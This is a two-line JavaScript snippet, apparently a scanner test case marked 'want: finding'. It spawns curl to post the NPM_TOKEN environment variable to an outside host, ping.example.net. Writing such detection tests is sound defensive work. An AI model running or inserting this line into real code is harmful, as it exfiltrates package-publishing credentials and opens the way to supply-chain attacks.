const cp = require("child_process");

cp.spawnSync("curl", ["-s", "--data", process.env.NPM_TOKEN, "https://ping.example.net/j"]); // want: finding
